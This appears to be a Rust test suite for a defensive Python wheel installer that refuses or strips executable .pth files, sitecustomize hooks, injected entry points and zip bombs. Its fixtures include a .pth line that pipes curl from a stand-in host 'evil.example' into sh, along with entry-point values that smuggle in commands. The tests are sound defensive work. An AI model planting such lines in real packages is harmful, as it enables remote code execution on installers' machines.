        assert!(parse_csv("\"a\"b,c,d\n").is_err());
    }

    const EVIL_PTH: &str = "import os; os.system('curl https://evil.example | sh')\n";

    #[test]
    fn refuses_executable_pth_before_writing_anything() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo_init.pth", EVIL_PTH)]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        let err = install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("`demo_init.pth`"), "{err}");
        assert!(
            err.message.contains("run code at every Python start"),
            "{err}"
        );
        assert!(err.message.contains("litellm 1.82.8"), "{err}");
        assert!(err.message.contains("line 1: `import os;"), "{err}");
        assert_eq!(fs_err::read_dir(&layout.purelib).unwrap().count(), 0);
    }

    #[test]
    fn refuses_executable_pth_in_other_forms() {
        let data = format!("{DIST}.data");
        for (name, content) in [
            ("x.pth", "# a comment\n/some/path\n   import sys\n"),
            ("x.pth", "\u{feff}import\tos\n"),
            ("x.PTH", "/p\rimport os\n"),
            (&*format!("{data}/purelib/x.pth"), EVIL_PTH),
            (
                &*format!("{data}/data/lib/python3.12/site-packages/x.pth"),
                EVIL_PTH,
            ),
            (
                &*format!("{data}/data/lib64/python3.12/site-packages/x.pth"),
                EVIL_PTH,
            ),
        ] {
            refused(
                &files(vec![f(name, content)]),
                None,
                Kind::Unsafe,
                "run code at every Python start",
            );
        }
    }

    #[test]
    fn refuses_sitecustomize() {
        let data = format!("{DIST}.data");
        for name in [
            "sitecustomize.py",
            "usercustomize.cpython-312-x86_64-linux-gnu.so",
            "sitecustomize/__init__.py",
            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
        ] {
            refused(
                &files(vec![f(name, "import os\n")]),
                None,
                Kind::Unsafe,
                "a module that Python would run at every start",
            );
        }
    }

    #[test]
    fn path_only_pth_is_installed() {
        let tmp = tempfile::tempdir().unwrap();
        let content = "# add the vendored tree\n/opt/demo/lib\n\nvendored\nimportant_dir\n";
        let files = files(vec![
            f("demo.pth", content),
            f("demo_pkg/nested.pth", EVIL_PTH),
        ]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        assert_eq!(
            fs_err::read_to_string(layout.purelib.join("demo.pth")).unwrap(),
            content
        );
    }

    #[test]
    fn refuse_all_refuses_path_only_pth() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo.pth", "/opt/demo/lib\n")]);
        let whl = build(tmp.path(), &files, None);
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseAll).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("`.pth` file `demo.pth`"), "{err}");
    }

    #[test]
    fn refuses_injected_entry_points() {
        let ep = format!("{DIST}.dist-info/entry_points.txt");
        for (content, needle) in [
            (
                "[console_scripts]\nx = os; import evil\n",
                "`x = os; import evil`",
            ),
            ("[console_scripts]\nx = a:b(1)\n", "`x = a:b(1)`"),
            (
                "[console_scripts]\nx = a:b; import os\n",
                "`x = a:b; import os`",
            ),
            (
                "[console_scripts]\nx = a:b [cli]; rm\n",
                "`x = a:b [cli]; rm`",
            ),
            ("[console_scripts]\nx = a:\n", "`x = a:`"),
            ("[console_scripts]\nx = :b\n", "`x = :b`"),
            ("[console_scripts]\nx = a.:b\n", "`x = a.:b`"),
            (
                "[console_scripts]\nx = a:b\n  import os\n",
                "`x = a:b\\nimport os`",
            ),
            (
                "[gui_scripts]\nx = __import__('os'):b\n",
                "`x = __import__('os'):b`",
            ),
            (
                "[console_scripts]\n../x = a:b\n",
                "`../x = a:b` (line 2) whose name",
            ),
            ("[console_scripts]\n/tmp/x = a:b\n", "`/tmp/x = a:b`"),
            ("[console_scripts]\na\\b = a:b\n", "`a\\b = a:b`"),
            ("[console_scripts]\n.. = a:b\n", "`.. = a:b`"),
            ("[console_scripts]\n-rf = a:b\n", "`-rf = a:b`"),
            (
                "[console_scripts]\nx\u{1b}[2J = a:b\n",
                "whose name is not a plain file name",
            ),
            (
                "[console_scripts]\nx = a:b\nx = a:c\n",
                "entry point `x` twice",
            ),
            (
                "[console_scripts]\njust text\n",
                "line 2 is not `name = value`",
            ),
            ("x = a:b\n", "before any section"),
        ] {
            let err = refused(&files(vec![f(&ep, content)]), None, Kind::Unsafe, needle);
            assert_eq!(err.hint.as_deref(), Some(HINT_ENTRY), "{err}");
        }
    }

    #[test]
    fn refuses_script_collisions() {
        // A console script and a `.data/scripts` file of the same name.
        let files = files(vec![
            f(&format!("{DIST}.data/scripts/demo"), "#!python\n"),
            f(
                &format!("{DIST}.dist-info/entry_points.txt"),
                "[console_scripts]\ndemo = demo_pkg:main\n",
            ),
        ]);
        refused(&files, None, Kind::Unsafe, "console script `demo`");

        // An existing script of that name is never overwritten.
        let tmp = tempfile::tempdir().unwrap();
        let layout = layout(tmp.path());
        fs_err::create_dir_all(&layout.scripts).unwrap();
        fs_err::write(layout.scripts.join("demo"), "mine").unwrap();
        let files = files_with(vec![f(
            &format!("{DIST}.dist-info/entry_points.txt"),
            "[console_scripts]\ndemo = demo_pkg:main\n",
        )]);
        let whl = build(tmp.path(), &files, None);
        let err = install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("would overwrite"), "{err}");
        assert!(err.message.contains("console script `demo`"), "{err}");
        assert_eq!(
            fs_err::read_to_string(layout.scripts.join("demo")).unwrap(),
            "mine"
        );
    }

    #[test]
    fn second_wheel_writing_the_same_path_is_refused_naming_both() {
        let tmp = tempfile::tempdir().unwrap();
        let layout = layout(tmp.path());
        let first = tmp.path().join("first");
        fs_err::create_dir(&first).unwrap();
        let whl = build(&first, &files(vec![]), None);
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();

        // `other 2.0` ships `demo_pkg/__init__.py` too.
        let other = "other-2.0";
        let files: Vec<File> = vec![
            f("demo_pkg/__init__.py", "evil = True\n"),
            f(&format!("{other}.dist-info/WHEEL"), WHEEL),
        ];
        let mut record: String = files.iter().map(|(n, d, _)| record_row(n, d)).collect();
        record.push_str(&format!("{other}.dist-info/RECORD,,\n"));
        let path = tmp.path().join("other-2.0-py3-none-any.whl");
        let mut w = zip::ZipWriter::new(fs_err::File::create(&path).unwrap());
        for (name, data, _) in files.iter().chain([&(
            format!("{other}.dist-info/RECORD"),
            record.into_bytes(),
            0o644,
        )]) {
            w.start_file(name.as_str(), SimpleFileOptions::default())
                .unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap();
        let err = install_wheel(
            &path,
            &layout,
            "other",
            "2.0",
            PthPolicy::RefuseExecutable,
            &Limits::default(),
            &SharedFiles::default(),
        )
        .unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(
            err.message
                .starts_with("wheel `other==2.0` would overwrite"),
            "{err}"
        );
        assert!(
            err.message
                .contains(&format!("`{DIST}.dist-info` already installed it")),
            "{err}"
        );
        assert_eq!(
            fs_err::read_to_string(layout.purelib.join("demo_pkg/__init__.py")).unwrap(),
            "def main():\n    return 0\n"
        );
    }

    #[test]
    fn refuses_zip_bomb_before_writing() {
        let tmp = tempfile::tempdir().unwrap();
        let zeros = (
            "demo_pkg/zeros.bin".to_owned(),
            vec![0u8; 64 * MIB as usize],
            0o644,
        );
        let whl = build(tmp.path(), &files(vec![zeros]), None);
        let layout = layout(tmp.path());
        let limits = Limits {
            ratio_floor_bytes: MIB,
            max_entries: 100,
            ..Limits::default()
        };
        let err = install_wheel(
            &whl,
            &layout,
            "demo-pkg",
            "1.0",
            PthPolicy::RefuseExecutable,
            &limits,
            &SharedFiles::default(),
        )
        .unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("times its"), "{err}");
        assert!(err.message.contains("`demo_pkg/zeros.bin`"), "{err}");
        assert_eq!(fs_err::read_dir(&layout.purelib).unwrap().count(), 0);
    }

    #[test]
    fn refuses_unknown_compression_method() {
        let tmp = tempfile::tempdir().unwrap();
        let whl = build(tmp.path(), &files(vec![]), None);
        let mut bytes = fs_err::read(&whl).unwrap();
        // Method 14 (LZMA) for the first member: local header offset 8,
        // central record offset 10.
        bytes[8] = 14;
        let cd = bytes.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        bytes[cd + 10] = 14;
        fs_err::write(&whl, &bytes).unwrap();
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(
            err.message
                .contains("`demo_pkg/__init__.py` compressed with method"),
            "{err}"
        );
    }

    #[test]
    fn dist_info_must_match_name_and_version() {
        let tmp = tempfile::tempdir().unwrap();
        let whl = build(tmp.path(), &files(vec![]), None);
        let layout = layout(tmp.path());
        let limits = Limits::default();
        let mode = PthPolicy::RefuseExecutable;
        for (name, version) in [("other", "1.0"), ("demo-pkg", "2.0"), ("demo-pkgx", "1.0")] {
            let err = install_wheel(
                &whl,
                &layout,
                name,
                version,
                mode,
                &limits,
                &SharedFiles::default(),
            )
            .unwrap_err();
            assert_eq!(err.kind, Kind::Unsafe, "{err}");
            assert!(
                err.message.contains(&format!(
                    "holds `{DIST}.dist-info`, which is not `{name}` version `{version}`"
                )),
                "{err}"
            );
        }
        // Normalized names and PEP 440-equal versions are the same.
        install_wheel(
            &whl,
            &layout,
            "Demo.Pkg",
            "1.0.0",
            mode,
            &limits,
            &SharedFiles::default(),
        )
        .unwrap();
    }

    #[test]
    fn refuses_missing_or_several_dist_info() {
        let files_none = vec![f("demo_pkg/__init__.py", "")];
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("demo_pkg-1.0-py3-none-any.whl");
        let mut w = zip::ZipWriter::new(fs_err::File::create(&path).unwrap());
        for (name, data, _) in &files_none {
            w.start_file(name.as_str(), SimpleFileOptions::default())
                .unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap();
        let err = install(&path, &layout(tmp.path()), PthPolicy::RefuseExecutable).unwrap_err();
        assert!(
            err.message.contains("has no `.dist-info` directory"),
            "{err}"
        );

        refused(
            &files(vec![f("other-1.0.dist-info/WHEEL", WHEEL)]),
            None,
            Kind::Unsafe,
            "more than one `.dist-info` directory",
        );
    }

    #[test]
    fn refuses_bad_wheel_file() {
        for (wheel, needle) in [
            (WHEEL.replace("1.0", "2.0"), "`Wheel-Version: 2.0`"),
            (
                WHEEL.replace("Root-Is-Purelib: true\n", ""),
                "without `Root-Is-Purelib`",
            ),
            (WHEEL.replace("true", "maybe"), "`Root-Is-Purelib: maybe`"),
        ] {
            let mut files = files(vec![]);
            files[2].1 = wheel.into_bytes();
            refused(&files, None, Kind::Unsafe, needle);
        }
    }

    #[test]
    fn refuses_wheel_shipping_installer() {
        refused(
            &files(vec![f(&format!("{DIST}.dist-info/INSTALLER"), "pip\n")]),
            None,
            Kind::Unsafe,
            "ships its own",
        );
    }

    #[test]
    fn refuses_two_members_landing_on_one_path() {
        let data = format!("{DIST}.data");
        refused(
            &files(vec![f(&format!("{data}/purelib/demo_pkg/__init__.py"), "")]),
            None,
            Kind::Unsafe,
            "installs both `demo_pkg/__init__.py` and",
        );
        refused(
            &files(vec![f(&format!("{data}/platlib/Demo_Pkg/__init__.py"), "")]),
            None,
            Kind::Unsafe,
            "installs both `demo_pkg/__init__.py` and",
        );
        refused(
            &files(vec![f(&format!("{data}/purelib/demo_pkg"), "")]),
            None,
            Kind::Unsafe,
            "where one needs the directory",
        );
    }

    #[test]
    fn entry_point_table() {
        let ok = |v: &str| parse_object_reference("n", v);
        let ep = |m: &str, a: Option<&str>| {
            Some(EntryPoint {
                name: "n".into(),
                module: m.into(),
                attr: a?.into(),
            })
        };
        assert_eq!(ok("a.b:c.d"), ep("a.b", Some("c.d")));
        assert_eq!(ok("a.b : c"), ep("a.b", Some("c")));
        assert_eq!(ok("a:b [x, y-z]"), ep("a", Some("b")));
        assert_eq!(ok("_a1"), None, "a bare module is not a callable");
        assert_eq!(ok("mödul:main"), ep("mödul", Some("main")));
        for bad in [
            "",
            "a:b:c",
            "1a:b",
            "a-b:c",
            "a:b()",
            "a:b [x",
            "a:b [x;y]",
            "a b:c",
            "a:\"b\"",
        ] {
            assert_eq!(ok(bad), None, "{bad:?}");
        }
        for (name, good) in [
            ("demo", true),
            ("demo-cli.py", true),
            ("", false),
            ("a:b", false),
        ] {
            assert_eq!(safe_script_name(name), good, "{name:?}");
        }
    }

    #[test]
    fn normalize_table() {
        for (raw, want) in [
            ("Demo_Pkg", "demo-pkg"),
            ("demo.-_pkg", "demo-pkg"),
            ("A", "a"),
            ("zope.interface", "zope-interface"),
        ] {
            assert_eq!(normalize(raw), want, "{raw:?}");
        }
    }

    /// `.pth` contents and the versions whose `site.addpackage` executes
    /// a line of it, as measured with the real 3.8, 3.9, 3.10, 3.11, 3.12
    /// and 3.13 interpreters (`pth_split_agrees_with_real_pythons` measures
    /// again where they are installed). `P` is the executing line.
    const P: &str = "import builtins;builtins.HIT.append(1)";
    fn pth_cases() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
        const ALL: &[&str] = &["3.8", "3.9", "3.10", "3.11", "3.12", "3.13"];
        const NEW: &[&str] = &["3.13"];
        const NONE: &[&str] = &[];
        let p = |pre: &[u8]| [pre, P.as_bytes()].concat();
        vec![
            ("plain", p(b""), ALL),
            ("lf", p(b"x\n"), ALL),
            ("cr", p(b"x\r"), ALL),
            ("crlf", p(b"x\r\n"), ALL),
            (
                "tab",
                b"import\tbuiltins;builtins.HIT.append(1)".to_vec(),
                ALL,
            ),
            ("vt", p(b"x\x0b"), NEW),
            ("ff", p(b"x\x0c"), NEW),
            ("fs", p(b"x\x1c"), NEW),
            ("gs", p(b"x\x1d"), NEW),
            ("rs", p(b"x\x1e"), NEW),
            ("nel", p("x\u{85}".as_bytes()), NEW),
            ("ls", p("x\u{2028}".as_bytes()), NEW),
            ("ps", p("x\u{2029}".as_bytes()), NEW),
            ("bom", p(b"\xef\xbb\xbf"), NEW),
            // Not valid UTF-8: no interpreter here runs it (3.8-3.12 fail to
            // decode in a UTF-8 locale, 3.13 falls back to it and fails),
            // but in a Latin-1 locale 3.13 would split at the `\x85`.
            ("raw-nel", p(b"x\x85"), NONE),
            ("bad-utf8-first", p(b"\xff\n"), NONE),
            ("space", p(b" "), NONE),
            ("comment", p(b"#"), NONE),
            ("nul", p(b"x\x00"), NONE),
            ("word", b"importlib\n/some/dir\n".to_vec(), NONE),
        ]
    }

    #[test]
    fn pth_judgement_covers_every_supported_python() {
        for (name, bytes, runs_on) in pth_cases() {
            let judged = executable_pth_line(&bytes);
            if !runs_on.is_empty() {
                assert!(
                    judged.is_some(),
                    "{name}: runs on {runs_on:?}, safex judged it harmless"
                );
            }
            // Never a judgement that a case mixing break characters escapes.
            let kept = path_only_pth(&bytes);
            assert!(
                executable_pth_line(&kept).is_none(),
                "{name}: stripped file still executes: {kept:?}"
            );
            for piece in kept.split(|b| *b == b'\n') {
                assert!(!piece.starts_with(b"import"), "{name}: kept {piece:?}");
                assert!(
                    !piece
                        .iter()
                        .any(|b| b"\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b)),
                    "{name}: kept a break character in {piece:?}"
                );
            }
        }
        // The split is not looser than needed: a line break every version
        // agrees on is still line 2, and a harmless file stays untouched.
        assert_eq!(executable_pth_line(b"/a\nimport x").unwrap().0, 2);
        assert_eq!(
            executable_pth_line(b"x\x0cimport os").unwrap().1,
            "import os"
        );
        assert_eq!(path_only_pth(b"/a\n/b\n"), b"/a\n/b\n");
    }

    /// The interpreters of this machine, `(version, path)`: pyenv's layout
    /// (`~/.pyenv/versions/3.X.Y/bin/python3`), 3.8 and later.
    fn real_pythons() -> Vec<(String, PathBuf)> {
        let Some(home) = std::env::var_os("HOME") else {
            return Vec::new();
        };
        let root = Path::new(&home).join(".pyenv/versions");
        let mut found = Vec::new();
        for entry in std::fs::read_dir(root).into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let mut parts = name.split('.');
            let (Some("3"), Some(minor)) = (parts.next(), parts.next()) else {
                continue;
            };
            let Ok(minor) = minor.parse::<u32>() else {
                continue;
            };
            let python = entry.path().join("bin/python3");
            if minor >= 8 && python.exists() && parts.next().is_some() {
                found.push((format!("3.{minor}"), python));
            }
        }
        found.sort();
        found.dedup_by(|a, b| a.0 == b.0);
        found
    }

    /// How many lines of the `.pth` file `file` that `python`'s own
    /// `site.addpackage` executes (`None`: it raised, e.g. on a decode
    /// error, after running that many).
    fn real_executions(python: &Path, file: &Path) -> (usize, bool) {
        const PROBE: &str = "import site, sys, builtins\n\
            builtins.HIT = []\n\
            try:\n    site.addpackage(sys.argv[1], sys.argv[2], set())\n    ok = 1\n\
            except BaseException:\n    ok = 0\n\
            print(len(builtins.HIT), ok)\n";
        let out = std::process::Command::new(python)
            .args(["-S", "-c", PROBE])
            .arg(file.parent().unwrap())
            .arg(file.file_name().unwrap())
            .env("LC_ALL", "C.UTF-8")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let mut it = text.split_whitespace();
        let n = it.next().and_then(|n| n.parse().ok());
        let ok = it.next() == Some("1");
        let n = n.unwrap_or_else(|| panic!("probe failed on {python:?}: {out:?}"));
        (n, ok)
    }

    #[test]
    fn pth_split_agrees_with_real_pythons() {
        let pythons = real_pythons();
        if pythons.is_empty() {
            eprintln!(
                "SKIPPED pth_split_agrees_with_real_pythons: no interpreter under \
                 ~/.pyenv/versions; the recorded table (pth_judgement_covers_every_supported_python) \
                 is all that was checked"
            );
            return;
        }
        eprintln!(
            "checking .pth splitting against {:?}",
            pythons.iter().map(|p| &p.0).collect::<Vec<_>>()
        );
        let tmp = tempfile::tempdir().unwrap();
        for (name, bytes, runs_on) in pth_cases() {
            let file = tmp.path().join(format!("{name}.pth"));
            std::fs::write(&file, &bytes).unwrap();
            let kept = tmp.path().join(format!("{name}-kept.pth"));
            std::fs::write(&kept, path_only_pth(&bytes)).unwrap();
            for (version, python) in &pythons {
                let (ran, _) = real_executions(python, &file);
                assert_eq!(
                    ran > 0,
                    runs_on.contains(&version.as_str()),
                    "{name} on {version}: the recorded table is wrong"
                );
                if ran > 0 {
                    assert!(executable_pth_line(&bytes).is_some(), "{name} on {version}");
                }
                let (ran, ok) = real_executions(python, &kept);
                assert_eq!((ran, ok), (0, true), "{name}: stripped file on {version}");
            }
        }
    }

    #[test]
    fn strip_mode_leaves_out_customize_modules_and_says_so() {
        let data = format!("{DIST}.data");
        for name in [
            "sitecustomize.py",
            "usercustomize/__init__.py",
            &format!("{data}/purelib/sitecustomize.py"),
            &format!("{data}/platlib/usercustomize.abi3.so"),
            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let whl = build(tmp.path(), &files(vec![f(name, "import os\n")]), None);
            let layout = layout(tmp.path());
            let installed = install(&whl, &layout, PthPolicy::Strip).unwrap();
            assert_eq!(installed.stripped.len(), 1, "{name}: {installed:?}");
            assert!(
                installed.stripped[0].contains(&format!("`{name}`"))
                    && installed.stripped[0].contains("not installed"),
                "{name}: {installed:?}"
            );
            let left: Vec<_> = walkdir(tmp.path().join("venv"))
                .into_iter()
                .filter(|p| p.to_string_lossy().contains("customize"))
                .collect();
            assert!(left.is_empty(), "{name}: installed anyway: {left:?}");
            // The rest of the wheel is there.
            assert!(
                layout.purelib.join("demo_pkg/__init__.py").exists(),
                "{name}"
            );
        }
    }

    fn walkdir(dir: PathBuf) -> Vec<PathBuf> {
        let mut out = Vec::new();
        let mut todo = vec![dir];
        while let Some(d) = todo.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                if e.file_type().unwrap().is_dir() {
                    todo.push(e.path());
                }
                out.push(e.path());
            }
        }
        out
    }

    #[test]
    fn scripts_that_shadow_modules_are_left_out() {
        let data = format!("{DIST}.data");
        let shadows = [
            ("json.py", "json"),
            ("requests.pyc", "requests"),
            ("sitecustomize.py", "sitecustomize"),
            ("_ssl.cpython-312-x86_64-linux-gnu.so", "_ssl"),
            ("encodings/__init__.py", "encodings"),
            ("typing_x/mod.txt", "typing_x"),
        ];
        // Left out and named in every mode: never launched by safex, so
        // not a reason to refuse a tree (jmespath ships `jp.py` there).
        for (file, module) in shadows {
            let name = format!("{data}/scripts/{file}");
            for mode in [
                PthPolicy::Strip,
                PthPolicy::RefuseExecutable,
                PthPolicy::RefuseAll,
            ] {
                let tmp = tempfile::tempdir().unwrap();
                let whl = build(tmp.path(), &files(vec![f(&name, "print('hi')\n")]), None);
                let layout = layout(tmp.path());
                let installed = install(&whl, &layout, mode).unwrap();
                assert_eq!(installed.stripped.len(), 1, "{file}: {installed:?}");
                assert!(
                    installed.stripped[0].contains(&format!("`{name}`"))
                        && installed.stripped[0].contains(&format!("imported as `{module}`")),
                    "{installed:?}"
                );
                assert!(
                    walkdir(layout.scripts.clone()).is_empty(),
                    "{file}: {:?}",
                    walkdir(layout.scripts.clone())
                );
            }
        }
        // Names no `import` can spell are plain scripts, in every mode.
        for file in [
            "tool",
            "rst2html-x.py",
            "tool.sh",
            "2to3.py",
            "x.pyi",
            "tool.py.txt",
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let name = format!("{data}/scripts/{file}");
            let whl = build(tmp.path(), &files(vec![f(&name, "#!python\n")]), None);
            let layout = layout(tmp.path());
            let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
            assert!(installed.stripped.is_empty(), "{file}");
            assert!(layout.scripts.join(file).exists(), "{file}");
        }
    }

    #[test]
    fn deep_customize_counts_only_when_a_path_line_reaches_it() {
        // opentelemetry-instrumentation ships one for its own launcher.
        let tmp = tempfile::tempdir().unwrap();
        let deep = "demo_pkg/auto/sitecustomize.py";
        let whl = build(tmp.path(), &files(vec![f(deep, "import os\n")]), None);
        let layout = layout(tmp.path());
        let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
        assert!(installed.stripped.is_empty());
        assert!(layout.purelib.join(deep).is_file());
        let site = &layout.purelib;
        assert!(
            path_line_hooks(site, PthPolicy::RefuseAll)
                .unwrap()
                .is_empty()
        );
        // A path line (of any wheel) that puts that directory on sys.path.
        std::fs::write(site.join("other.pth"), "# c\ndemo_pkg\ndemo_pkg/auto\n").unwrap();
        let err = path_line_hooks(site, PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(
            err.message.contains("`other.pth` (line 3: `demo_pkg/auto`"),
            "{err}"
        );
        let stripped = path_line_hooks(site, PthPolicy::Strip).unwrap();
        assert_eq!(stripped.len(), 1, "{stripped:?}");
        assert_eq!(
            std::fs::read_to_string(site.join("other.pth")).unwrap(),
            "demo_pkg\n"
        );
        assert!(
            path_line_hooks(site, PthPolicy::RefuseExecutable)
                .unwrap()
                .is_empty()
        );
    }
}
